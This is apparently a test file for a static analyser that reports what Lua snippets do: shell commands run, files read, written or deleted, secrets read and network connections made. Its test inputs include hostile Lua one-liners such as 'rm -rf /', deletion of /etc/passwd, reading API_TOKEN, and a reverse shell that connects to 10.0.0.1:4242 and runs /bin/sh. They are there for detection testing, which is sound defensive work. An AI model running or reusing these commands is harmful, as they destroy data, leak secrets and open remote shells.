import assert from 'node:assert/strict';
import test from 'node:test';
import { describeReading } from './testing/describe-reading.ts';

test('understands code that only computes', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['print(1 + 2)', 'ok'],
    ['for i, v in ipairs({1, 2}) do print(i, v) end', 'ok'],
    ['print(("x"):rep(3))', 'ok'],
    ['print(string.format("%d", 5), math.floor(2.5))', 'ok'],
    ['local t = {a = 1}; print(t.a, t["a"], #t)', 'ok'],
    ['local function f(x) return x * 2 end print(f(2))', 'ok'],
    ['print(os.time(), os.date("%Y"))', 'ok'],
    ['for line in io.stdin:lines() do print(line:upper()) end', 'ok'],
    ['print(_VERSION)', 'ok'],
    ['io.write(table.concat({"a", "b"}, ","))', 'ok'],
    ['--[[ os.execute("x") ]] print(1) -- os.execute("y")', 'ok'],
    ['print([[\na]], [==[ ]] ]==])', 'ok'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('lua', code), expected, code);
});

test('notes what is run, read and written', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["os.execute('/bin/sh')", 'ok shell=/bin/sh'],
    ['os.execute "ls"', 'ok shell=ls'],
    ['os.execute [[rm -rf /]]', 'ok shell=rm -rf /'],
    ['os.execute("ls" --x\n.. " -l")', 'ok shell=ls -l'],
    ['io.popen("id"):read("*a")', 'ok shell=id'],
    ['local f=io.open("/x", "wb"); f:write("DATA"); io.close(f);', 'ok write=/x'],
    ['local f=io.open("/x", "rb"); io.write(f:read("*a"))', 'ok read=/x'],
    ['os.remove("a"); os.rename("b", "c")', 'ok delete=a delete=b write=c'],
    ['load("os.remove(\'a\')")()', 'ok delete=a'],
    ['print(os.getenv("HOME"), os.getenv("API_TOKEN"))', 'ok secret=API_TOKEN'],
    ['local o = os; o.execute("id")', 'ok shell=id'],
    ['dofile("x.lua")', 'no script=x.lua'],
    ['load("os.execute(\'id\')"){}', 'ok shell=id'],
    ['do local function load() end end load("os.execute(\'id\')")', 'ok shell=id'],
    ['os.remove("\\47etc/passwd")', 'ok delete=/etc/passwd'],
    ['os.remove("\\u{2f}etc/passwd\\x41")', 'ok delete=/etc/passwdA'],
    ['os.remove("\\u002f")', 'ok delete=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('lua', code), expected, code);
});

test('does not understand what leads out of plain data', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['_G["os"].execute("x")', 'no shell=x'],
    [
      "require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');",
      'no connect=10.0.0.1 shell=/bin/sh -i <&3 >&3 2>&3',
    ],
    ['local s=require("socket").bind("*",1)', 'no'],
    ['load(io.read())()', 'no opaque=?'],
    ['debug.getregistry()', 'no'],
    ['require("mylib")', 'no opaque=?'],
    ['({os})[1].execute("id")', 'no shell=id'],
    ['package.loadlib("x", "y")', 'no opaque=?'],
    ['getfenv()["os"]', 'no'],
    ['f("x")', 'no'],
    ['x = [[a', 'no'],
    ['--[[ a', 'no'],
    ['x = [=a', 'no'],
    ['x = [=================[ a', 'no'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('lua', code), expected, code);
});

test('follows no constant that may be changed under any name', () => {
  const cases: readonly (readonly [string, string])[] = [
    ["local p='/tmp/x'; local function f(p) os.remove(p) end f('/etc/passwd')", 'ok delete=?'],
    ["p='/tmp/x'; for _,p in ipairs({'/etc/passwd'}) do os.remove(p) end", 'ok delete=?'],
  ];
  for (const [code, expected] of cases) assert.equal(describeReading('lua', code), expected, code);
});
